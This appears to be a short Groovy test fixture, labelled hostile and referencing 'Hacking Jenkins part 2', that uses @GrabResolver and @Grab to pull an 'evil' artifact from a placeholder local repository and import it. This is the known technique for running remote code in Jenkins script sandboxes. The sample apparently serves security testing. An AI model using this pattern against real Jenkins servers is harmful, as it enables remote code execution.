// hostile: @GrabResolver (Hacking Jenkins part 2)
@GrabResolver(name = "x", root = "http://127.0.0.1:@PORT@/")
@Grab("org.example:evil:1.0")
import Evil
